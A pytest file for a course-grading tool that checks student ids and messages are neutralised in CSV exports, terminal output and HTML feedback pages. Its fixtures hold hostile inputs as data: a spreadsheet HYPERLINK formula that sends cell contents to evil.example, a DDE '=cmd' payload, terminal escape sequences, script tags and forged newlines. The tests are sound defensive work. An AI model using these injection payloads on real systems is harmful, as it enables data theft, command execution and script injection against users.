"""Student text (ids, reasons, messages) neutralised where it goes: the CSV, the terminal, every HTML page."""

from __future__ import annotations

import csv
import warnings

import nbformat
import pytest

from coursetools.course.coursedir import CourseDir
from coursetools.course.text import csv_safe, terminal_safe
from coursetools.grading import results
from coursetools.grading.results import CellResult, GradingResult
from coursetools.reporting.class_report import report
from coursetools.reporting.feedback import feedback
from coursetools.reporting.grades import table, text_table, write_csv

HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3", "@SUM(1)", "\tTAB", "\rCR",
               "\x1b[31mred\x1b]0;pwned\x07\x1b[2J", "<script>alert(1)</script>", "\u202ereversed", "ok\nforged"]
SCRIPT = "<script>alert('reason')</script>"


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    from nbgrader.api import Gradebook
    from sqlalchemy.exc import SAWarning

    warnings.simplefilter("ignore", SAWarning)
    cd = CourseDir.open(tmp_path_factory.mktemp("hostile-text") / "course")
    release = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(
        "assert True", metadata={"nbgrader": {"grade_id": "test_f", "grade": True, "points": 1}})])
    cd.release_notebook("hw").parent.mkdir(parents=True)
    nbformat.write(release, cd.release_notebook("hw"))
    with Gradebook(cd.db_url, "course") as gb:
        gb.add_assignment("hw")
        gb.add_notebook("hw", "hw")
        gb.add_grade_cell("test_f", "hw", "hw", max_score=1, cell_type="code")
        gb.add_source_cell("test_f", "hw", "hw", cell_type="code", locked=True, source="assert True", checksum="x")
        for student in HOSTILE_IDS:
            gb.add_student(student)
            gb.add_submission("hw", student)
            for grade in gb.find_submission_notebook("hw", "hw", student).grades:
                grade.auto_score = 0
            gb.db.commit()
    for student in HOSTILE_IDS:
        results.save(GradingResult(student, "hw", results.TIMED_OUT, reason=f"=cmd|' /C calc'!A0 \x1b[5m{SCRIPT}",
                                   cells=[CellResult("hw", "test_f", 0.0, 1.0, [f"CheckFailed: {SCRIPT}"])]),
                     cd.autograded_dir(student, "hw"))
    return cd


def test_csv_cells_never_start_a_formula(course, tmp_path):
    path = write_csv(table(course), tmp_path / "grades.csv")
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
            assert "\x1b" not in cell and "\x07" not in cell and "\u202e" not in cell
    students = {r[0] for r in rows[1:]}
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in students and "'+1+2" in students
    assert "'-3" in students and "'@SUM(1)" in students


def test_terminal_output_has_no_control_characters(course):
    text = text_table(table(course))
    assert not any(c in text for c in "\x1b\x07\r\t\u202e")
    assert "ok forged" in text  # one line per student: an id cannot forge a line of its own


def test_html_pages_escape_student_text(course, tmp_path):
    pages = [p.path.read_text() for p in feedback("hw", course)]
    pages.append(report(course, tmp_path / "r.html").read_text())
    for html in pages:
        assert "<script>" not in html and "&lt;script&gt;" in html


def test_text_helpers():
    assert csv_safe("=1+1") == "'=1+1" and csv_safe("plain") == "plain" and csv_safe("\uff1dSUM()") == "'\uff1dSUM()"
    assert terminal_safe("a\x1b[31mb\x1b]0;t\x07c\x9b2Jd") == "abcd"
    assert terminal_safe("line1\nline2\r\nline3") == "line1\nline2\nline3"
    assert terminal_safe("x\ny", one_line=True) == "x y"
